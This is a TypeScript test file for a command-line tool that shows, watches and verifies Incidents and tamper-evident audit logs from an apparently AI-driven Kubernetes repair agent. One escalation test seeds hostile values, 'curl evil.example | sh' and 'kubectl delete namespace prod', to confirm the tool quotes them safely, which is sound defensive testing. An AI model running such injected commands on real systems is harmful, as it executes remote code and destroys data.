// The commands with a real log behind the gateway's real read API; only the cluster is simulated.

import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { commandLine, fakeEnvironment, outputTo } from '../../test/support/fake-environment.ts';
import { API_VERSION } from '../api/group.ts';
import { openedEntry, outcomeEntry, sealEntry } from '../audit/lifecycle.ts';
import { type AuditStore, openAuditLog } from '../audit/store.ts';
import { NotFound, VerificationFailed } from '../errors.ts';
import { LiveOutput } from '../gateway/live-output.ts';
import { createReadApi } from '../gateway/read-api/server.ts';
import { createLogger } from '../observability/logger.ts';
import type { Incidents } from './incidents.ts';
import { parseIncident } from './parse-incident.ts';
import { openGatewayReader } from './reader/gateway-reader.ts';
import { displayWidth } from './table.ts';

const uid = '6f1c0f5e-58a2-4c0e-9d1a-2f4f3c0b7a11';
const gateway = { session: uid, attempt: 0, writer: 'gateway' } as const;
const door = { session: uid, attempt: 1, writer: 'gateway' } as const;
const agent = { session: uid, attempt: 1, writer: 'agent' } as const;

let directory: string;
let log: AuditStore;
let live: LiveOutput;
let server: Server;
let port: number;
let stopping: AbortController;
let stdout: string;
let stderr: string;
/** The cluster's Incidents, as the API server would give them. */
let cluster: { metadata: { namespace: string; name: string } }[];

async function startGateway(): Promise<void> {
  stopping = new AbortController();
  server = createReadApi({ log, publicKey: '', live, logger: createLogger('test'), signal: stopping.signal });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  port = address.port;
}

async function stopGateway(): Promise<void> {
  stopping.abort();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
}

beforeEach(async () => {
  directory = await mkdtemp(path.join(tmpdir(), 'oplab-cli-'));
  log = await openAuditLog({ path: path.join(directory, 'audit.db') });
  live = new LiveOutput((text) => log.redact(text));
  stdout = '';
  stderr = '';
  cluster = [];
  process.exitCode = undefined;
  await startGateway();
});
afterEach(async () => {
  process.exitCode = undefined;
  await stopGateway();
  await log.close();
  await rm(directory, { recursive: true, force: true });
});

const incidents: Incidents = {
  async get(namespace, name) {
    const raw = cluster.find(({ metadata }) => metadata.namespace === namespace && metadata.name === name);
    if (raw === undefined) throw new NotFound(`there is no Incident "${name}" in namespace ${namespace}`);
    return { incident: parseIncident(raw, 'test'), raw };
  },
  list: async (namespace) =>
    cluster.filter(({ metadata }) => namespace === undefined || metadata.namespace === namespace),
  create: async (wanted) => wanted,
};

const environment = fakeEnvironment({
  output: outputTo(
    (text) => {
      stdout += text;
    },
    (text) => {
      stderr += text;
    },
  ),
  incidents: () => incidents,
  gateway: () =>
    openGatewayReader({
      connect: async () => ({ url: `http://127.0.0.1:${port}`, close: async () => undefined }),
      retryMs: 50,
    }),
});

const oplab = commandLine(environment);

function incident(status: object, name = 'store-down', more: object = {}) {
  return {
    apiVersion: API_VERSION,
    kind: 'Incident',
    metadata: { namespace: 'tikv', name, uid, creationTimestamp: '2026-01-01T00:05:00Z' },
    spec: {
      summary: 'TiKV store 4 is Disconnected and a good many region peers are missing on the others',
      severity: 'critical',
      verify: {
        soakSeconds: 30,
        checks: [{ name: 'stores-up', http: { service: 'tikv-pd', port: 2379, cel: 'body.count == 3' } }],
      },
      ...more,
    },
    status,
  };
}

const time = '2026-01-01T00:06:00Z';
const attempt = {
  number: 1,
  sessionID: uid,
  podName: 'store-down-6f1c0f5e-1',
  serviceAccountName: 'sa',
  class: {
    name: 'default',
    generation: 1,
    mode: 'Repair',
    model: 'rehearsal-1',
    summaryModel: 'rehearsal-1',
    maxOutputTokens: 16000,
  },
  startTime: time,
  endTime: '2026-01-01T00:08:00Z',
  reason: 'Claimed',
};
const usage = {
  turns: 7,
  modelCalls: 12,
  inputTokens: 51234,
  outputTokens: 2345,
  cacheReadTokens: 10,
  cacheWriteTokens: 0,
  costMilliUSD: 12,
};
const limits = { timeoutSeconds: 900, maxTurns: 60, maxTokens: 2_000_000, maxCostMilliUSD: 2000, attempts: 2 };
const condition = (type: string, status: string, reason: string, message = '') => ({
  type,
  status,
  reason,
  message,
  lastTransitionTime: time,
});

/** A session as a repair leaves it. */
async function recordRepair(): Promise<{ entries: number; headHash: string }> {
  await log.append(
    gateway,
    openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'TiKV store 4 is Disconnected'),
  );
  await log.append(agent, { clientKey: '1-1', kind: 'reasoning', content: 'I want to see the pods first.' });
  await log.append(agent, {
    clientKey: '1-2',
    kind: 'tool_call',
    tool: 'shell',
    params: { command: 'kubectl -n tikv scale sts tikv-tikv --replicas=3\necho done' },
    content: 'One replica is missing.',
  });
  await log.append(door, {
    clientKey: 'k1',
    kind: 'kube_intent',
    tool: 'kube',
    params: { verb: 'patch', resource: 'statefulsets', subresource: 'scale', namespace: 'tikv', name: 'tikv-tikv' },
    content: '',
    blob: '{"spec":{"replicas":3}}',
  });
  await log.append(door, {
    clientKey: 'k1:outcome',
    kind: 'kube_outcome',
    tool: 'kube',
    params: { status: 200 },
    content: 'patch statefulsets/scale tikv/tikv-tikv: 200',
    durationMs: 12,
  });
  await log.append(agent, {
    clientKey: '1-3',
    kind: 'tool_result',
    tool: 'shell',
    exitCode: 0,
    durationMs: 1400,
    params: { call: '1-2', timedOut: false },
    content: 'scaled \u001b[31mto three\u001b[0m',
    blob: 'statefulset.apps/tikv-tikv scaled\ndone\n',
  });
  await log.append(agent, {
    clientKey: '1-4',
    kind: 'tool_call',
    tool: 'conclude',
    params: { outcome: 'Fixed', summary: 's', rootCause: 'scaled down', actions: ['scaled up'] },
    content: 'all stores are Up',
  });
  await log.append(gateway, outcomeEntry('Resolved', 'all checks have held'));
  return log.seal(gateway, sealEntry('Resolved'));
}

describe('incident list', () => {
  it('shows phase, claim, verification, cost and age in columns', async () => {
    cluster = [
      incident({
        phase: 'Resolved',
        attempts: [attempt],
        limits,
        usage,
        claim: { attempt: 1, outcome: 'Fixed', summary: '', rootCause: '', actions: [], time },
        conditions: [condition('Verified', 'True', 'ChecksHeld')],
      }),
    ];
    await oplab('incident', 'list', '-n', 'tikv');
    const [header = '', row = ''] = stdout.split('\n');
    expect(header.split(/\s+/)).toEqual([
      'NAME',
      'PHASE',
      'SEVERITY',
      'ATTEMPT',
      'CLAIM',
      'VERIFIED',
      'COST',
      'AGE',
      'SUMMARY',
    ]);
    expect(row.split(/\s{2,}/).slice(0, 8)).toEqual([
      'store-down',
      'Resolved',
      'critical',
      '1/2',
      'Fixed',
      'True',
      '$0.012',
      '5m',
    ]);
  });

  it('reports on stderr that there are no Incidents, and keeps stdout clean', async () => {
    await oplab('incident', 'list', '-n', 'tikv');
    expect(stdout).toBe('');
    expect(stderr).toContain('No Incidents found in namespace tikv');
  });

  it('names an Incident that cannot be read, and shows the others', async () => {
    const strange = { ...incident({}), metadata: { namespace: 'tikv', name: 'strange' }, spec: { summary: 7 } };
    cluster = [strange, incident({})];
    await oplab('incident', 'list', '-n', 'tikv');
    expect(stderr).toContain('cannot read Incident tikv/strange: spec.summary');
    expect(stdout).toContain('store-down');
    expect(stdout).not.toContain('strange');
    expect(process.exitCode).toBe(1);
  });

  it('prints a List of the unchanged objects as JSON', async () => {
    cluster = [incident({}), incident({}, 'other')];
    await oplab('incident', 'list', '-A', '-o', 'json');
    expect(JSON.parse(stdout)).toMatchObject({
      kind: 'List',
      items: [{ metadata: { name: 'store-down' } }, { metadata: { name: 'other' } }],
    });
  });
});

describe('incident show', () => {
  it('prints claim, checks with observed values, usage and the end of the trail, in 80 columns', async () => {
    const long = 'a sentence that goes on and on '.repeat(8);
    cluster = [
      incident({
        phase: 'Verifying',
        message: long,
        attempts: [attempt],
        limits,
        usage,
        conditions: [condition('RepairClaimed', 'True', 'Fixed', long), condition('Verified', 'False', 'Soaking')],
        claim: { attempt: 1, outcome: 'Fixed', summary: long, rootCause: 'scaled down', actions: ['scaled up'], time },
        verification: [
          {
            name: 'stores-up',
            passing: false,
            observed: 'body.count = 2',
            baseline: 'body.count = 1',
            observedTime: time,
          },
        ],
        soak: { restarts: 2 },
        audit: {
          sessionID: uid,
          entries: 31,
          headHash: 'abc123',
          tail: [{ seq: 31, time, kind: 'tool_call', tool: 'shell', text: `kubectl get pods ${long}` }],
        },
      }),
    ];
    await oplab('incident', 'show', 'tikv/store-down');
    for (const line of stdout.split('\n')) expect(displayWidth(line), line).toBeLessThanOrEqual(80);
    for (const text of [
      '✗ stores-up: does not hold',
      'observed: body.count = 2',
      'before: body.count = 1',
      'restarted 2 times',
      'Root cause: scaled down',
      '- scaled up',
      'turns 7 of 60',
      '$0.012 of $2.000',
      '31 entries, not sealed',
      'tool_call shell',
      'kubectl get pods',
      'RepairClaimed',
    ]) {
      expect(stdout).toContain(text);
    }
  });

  it('prints the hand-over of an escalated Incident, with commands that can be pasted', async () => {
    const path = `/api/v1/namespaces/tikv/services/tikv-pd:2379/proxy/pd/api/v1/stores?${'x'.repeat(60)}  y`;
    const change = { attempt: 1, seq: 12, plane: 'kubernetes', text: 'patch apps/statefulsets tikv/tikv-tikv' };
    cluster = [
      incident(
        {
          phase: 'Escalated',
          handover: {
            summary: 'a store is down\nfailing when last looked at:\n- stores-up: body.count = 2',
            attempts: ['attempt 1 (60 s): ChecksFailed'],
            changes: ['patch apps/statefulsets tikv/tikv-tikv (attempt 1, entry 12)'],
            nextSteps: [
              {
                what: 'stores-up must hold ("ready: kubectl delete namespace prod #" != "")',
                command: ['kubectl', 'get', '--raw', path],
              },
              { what: 'events in a', command: ['kubectl', 'get', 'events', '-n', 'a; curl evil.example | sh #'] },
              { what: 'a\n      kubectl delete namespace prod', command: ['kubectl', 'get', 'a\nb'] },
              { what: 'create the Incident anew' },
            ],
          },
          changes: { count: 3, last: [change] },
          verification: [
            { name: 'baseline', passing: false, observed: 'StatefulSet tikv/x is gone', observedTime: time },
          ],
          alarm: { state: 'Firing', occurrences: 7, firstSeen: time, lastSeen: time, flaps: 2 },
          notifications: [{ receiver: 'on-call', event: 'Escalated', state: 'Sent', tries: 2, time }],
        },
        'store-down',
        {
          source: { kind: 'Monitor', name: 'stores', fingerprint: 'f', startTime: time },
          verify: { checks: [{ name: 'stores-up', http: { service: 's', port: 1, cel: 'true' } }] },
        },
      ),
    ];
    await oplab('incident', 'show', 'tikv/store-down');
    const lines = stdout.split('\n').map((line) => line.trim());
    expect(lines.filter((line) => line.startsWith('kubectl'))).toEqual([
      `kubectl get --raw '${path}'`,
      "kubectl get events -n 'a; curl evil.example | sh #'",
    ]);
    for (const line of [
      '- stores-up: body.count = 2',
      '- stores-up must hold ("ready: kubectl delete namespace prod #" != ""):',
      '- events in a:',
      '- a kubectl delete namespace prod',
      '- create the Incident anew',
      '3 in all, the last 1:',
      '✗ baseline: does not hold',
      '? stores-up: not checked yet',
      'Monitor stores, since 2026-01-01 00:06:00 UTC',
      'Firing, seen 7 times, last 4m ago, came back 2 times',
      'Escalated to on-call: Sent, 2026-01-01 00:06:00 UTC, 2 tries',
    ]) {
      expect(lines).toContain(line);
    }
  });

  it('fails with exit code 3 for a name that does not exist', async () => {
    await expect(oplab('incident', 'show', 'nope', '-n', 'tikv')).rejects.toMatchObject({
      code: 'OPLAB_NOT_FOUND',
      exitCode: 3,
    });
  });
});

describe('audit', () => {
  it('list includes the sessions of deleted Incidents', async () => {
    await recordRepair();
    await oplab('audit', 'list');
    expect(
      stdout
        .split('\n')[1]
        ?.split(/\s{2,}/)
        .slice(0, 6),
    ).toEqual([uid, 'tikv', 'store-down', '9', 'yes', 'Resolved']);
  });

  it('says how much of an entry is not shown', async () => {
    await log.append(
      { session: uid, attempt: 0, writer: 'gateway' },
      openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 's'),
    );
    await log.append(
      { session: uid, attempt: 1, writer: 'agent' },
      { clientKey: 'long', kind: 'reasoning', content: `${'y '.repeat(14_000)}` },
    );
    await oplab('audit', 'show', uid);
    expect(stdout).toContain('(11,616 bytes were redacted or shortened)');
  });

  it('show prints reasoning, commands, results and changes', async () => {
    await recordRepair();
    await oplab('audit', 'show', 'store-down', '-n', 'tikv');
    for (const text of [
      'I want to see the pods first.',
      'One replica is missing.',
      '$ kubectl -n tikv scale sts tikv-tikv --replicas=3\n        echo done',
      'patch statefulsets/scale tikv/tikv-tikv',
      'exit 0, 1.4 s',
      'scaled to three',
      'claims: Fixed',
      'root cause: scaled down',
      'sealed: Resolved',
      'Attempt 1',
    ]) {
      expect(stdout).toContain(text);
    }
    expect(stdout).not.toContain('\u001b');
    expect(stdout).not.toContain('statefulset.apps/tikv-tikv scaled');
  });

  it('show --full adds the output of commands and the bodies of writes', async () => {
    await recordRepair();
    await oplab('audit', 'show', uid, '--full');
    expect(stdout).toContain('| statefulset.apps/tikv-tikv scaled\n      | done\n');
    expect(stdout).toContain('| {"spec":{"replicas":3}}');
  });

  it('show filters by kind and start, and prints one entry per line as NDJSON', async () => {
    await recordRepair();
    await oplab(
      'audit',
      'show',
      'tikv/store-down',
      '--kind',
      'tool_call,tool_result',
      '--since-seq',
      '3',
      '-o',
      'ndjson',
      '--full',
    );
    const entries = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(entries).toMatchObject([
      { seq: 6, kind: 'tool_result', blob: 'statefulset.apps/tikv-tikv scaled\ndone\n' },
      { seq: 7, kind: 'tool_call' },
    ]);
    stdout = '';
    await oplab('audit', 'show', 'tikv/store-down', '-o', 'json');
    expect(JSON.parse(stdout).items).toHaveLength(9);
  });

  it('show reads a file without a cluster', async () => {
    await recordRepair();
    await log.close();
    await oplab('audit', 'show', 'store-down', '--file', path.join(directory, 'audit.db'));
    expect(stdout).toContain('One replica is missing.');
  });

  it('show fails with exit code 3 for a name unknown to cluster and log', async () => {
    await recordRepair();
    await expect(oplab('audit', 'show', 'nope', '-n', 'tikv')).rejects.toMatchObject({ exitCode: 3 });
  });

  it('show uses the latest of several sessions with the same name, and says so', async () => {
    const second = '7a1c0f5e-58a2-4c0e-9d1a-2f4f3c0b7a22';
    await recordRepair();
    await log.append(
      { ...gateway, session: second },
      openedEntry({ namespace: 'tikv', name: 'store-down', uid: second }, 'again'),
    );
    await oplab('audit', 'show', 'tikv/store-down');
    expect(stdout).toContain(`session ${second}`);
    expect(stderr).toContain(uid);
  });

  it('verify checks the log against the anchors in status', async () => {
    const { entries, headHash } = await recordRepair();
    cluster = [
      incident({ audit: { sessionID: uid, entries, headHash, finalHeadHash: headHash, sealedHeadHash: headHash } }),
    ];
    await oplab('audit', 'verify', 'store-down', '-n', 'tikv');
    expect(stdout).toContain(
      `✓ tikv/store-down (${uid}): 9 entries, sealed\n    checked against status.audit.sealedHeadHash; 2 texts match their digests`,
    );
    expect(stdout).not.toContain('not signed');
    stdout = '';
    cluster = [
      incident({
        audit: {
          sessionID: uid,
          entries: entries + 2,
          headHash: 'f'.repeat(64),
          finalHeadHash: 'f'.repeat(64),
          sealedHeadHash: 'f'.repeat(64),
        },
      }),
    ];
    await expect(oplab('audit', 'verify', '--all')).rejects.toBeInstanceOf(VerificationFailed);
    expect(stdout).toContain('✗ tikv/store-down');
    expect(stdout).toContain('rows 10 to 11 are missing');
  });

  it('verify through the gateway finds a changed text, and counts a pruned one', async () => {
    const { entries, headHash } = await recordRepair();
    cluster = [incident({ audit: { sessionID: uid, entries, headHash, finalHeadHash: headHash } })];
    const [changed = '', pruned = ''] = (await log.read(uid)).flatMap(({ blobDigest }) => blobDigest ?? []);
    const stored = vi.spyOn(log, 'blob').mockImplementation(async (digest) => {
      return digest === changed ? 'something harmless' : undefined;
    });
    await expect(oplab('audit', 'verify', 'store-down', '-n', 'tikv')).rejects.toMatchObject({ exitCode: 4 });
    expect(stdout).toMatch(/row \d: its stored text does not match its digest/);
    expect(stored.mock.calls.map(([digest]) => digest).sort()).toEqual([changed, pruned].sort());
  });

  it('verify finds a session that the log has lost', async () => {
    cluster = [incident({ audit: { sessionID: uid, entries: 4, headHash: 'f'.repeat(64) } })];
    await expect(oplab('audit', 'verify', 'store-down', '-n', 'tikv')).rejects.toMatchObject({ exitCode: 4 });
    expect(stdout).toContain('rows 1 to 4 are missing');
  });
});

describe('incident watch', () => {
  const seen = (text: string) => async () => {
    const deadline = Date.now() + 10_000;
    while (!stdout.includes(text)) {
      if (Date.now() > deadline) throw new Error(`"${text}" was not printed; there is:\n${stdout}\n${stderr}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };

  it('streams entries and live output, survives a restart of the gateway, and ends with the Incident', async () => {
    cluster = [incident({ phase: 'Running' })];
    const watching = oplab('incident', 'watch', 'store-down', '-n', 'tikv');
    await log.append(
      gateway,
      openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'TiKV store 4 is Disconnected'),
    );
    await log.append(agent, {
      clientKey: '1-1',
      kind: 'tool_call',
      tool: 'shell',
      params: { command: 'sleep 5; echo hello' },
      content: 'why not',
    });
    await seen('$ sleep 5; echo hello')();
    live.publish(uid, { callKey: '1-1', stream: 'stdout', text: 'hel' });
    live.publish(uid, { callKey: '1-1', stream: 'stdout', text: 'lo \u001b[2Jworld\npassword=hunter22\n' });
    await seen('| hello world')();

    await stopGateway();
    await log.append(agent, {
      clientKey: '1-2',
      kind: 'tool_result',
      tool: 'shell',
      exitCode: 0,
      durationMs: 5,
      content: 'said hello',
    });
    await new Promise((resolve) => setTimeout(resolve, 150));
    await startGateway();
    await seen('said hello')();

    await log.append(gateway, outcomeEntry('Resolved', ''));
    await log.seal(gateway, sealEntry('Resolved'));
    cluster = [
      incident({
        phase: 'Resolved',
        usage,
        conditions: [
          condition('Finished', 'True', 'Resolved'),
          condition('Succeeded', 'True', 'Verified'),
          condition('Verified', 'True', 'ChecksHeld'),
        ],
      }),
    ];
    await watching;
    expect(stderr).toContain('waiting: ');
    expect(stdout).not.toContain('hunter22');
    // Each entry once, in spite of the restart.
    const numbers = [...stdout.matchAll(/^ {3}(\d) {2}/gm)].map((match) => Number(match[1]));
    expect(numbers).toEqual([1, 2, 3, 4, 5]);
    expect(stdout.trim().split('\n').at(-1)).toMatch(/^✓ tikv\/store-down Resolved .*verified, 7 turns, \$0\.012/);
    expect(process.exitCode).toBeUndefined();
  });

  it('waits for a session that does not exist yet, and exits with 1 if the Incident did not succeed', async () => {
    cluster = [incident({ phase: 'Pending', message: 'waiting for Incident tikv/other' })];
    const watching = oplab('incident', 'watch', 'tikv/store-down');
    await seen('waiting for Incident tikv/other')();
    await log.append(gateway, openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'x'));
    await seen('lifecycle')();
    await log.seal(gateway, sealEntry('Escalated'));
    cluster = [
      incident({
        phase: 'Escalated',
        conditions: [condition('Finished', 'True', 'Escalated'), condition('Succeeded', 'False', 'AttemptsSpent')],
      }),
    ];
    await watching;
    expect(stdout).toMatch(/✗ tikv\/store-down Escalated/);
    expect(process.exitCode).toBe(1);
  });

  it('ends when the Incident is deleted', async () => {
    cluster = [incident({ phase: 'Running' })];
    await log.append(gateway, openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'x'));
    const watching = oplab('incident', 'watch', 'tikv/store-down');
    await seen('lifecycle')();
    cluster = [];
    await log.seal(gateway, sealEntry('Deleted'));
    await watching;
    expect(stdout).toContain('was deleted');
    expect(process.exitCode).toBe(1);
  });
});

it('reports that the gateway cannot be reached', async () => {
  const nobody = createServer();
  await new Promise<void>((resolve) => nobody.listen(0, '127.0.0.1', resolve));
  const address = nobody.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  await new Promise((resolve) => nobody.close(resolve));
  const reader = openGatewayReader({
    connect: async () => ({ url: `http://127.0.0.1:${address.port}`, close: async () => undefined }),
    retryMs: 10,
  });
  await expect(reader.sessions()).rejects.toMatchObject({
    code: 'OPLAB_GATEWAY_UNREACHABLE',
    message: expect.stringMatching(/ECONNREFUSED/),
  });
});
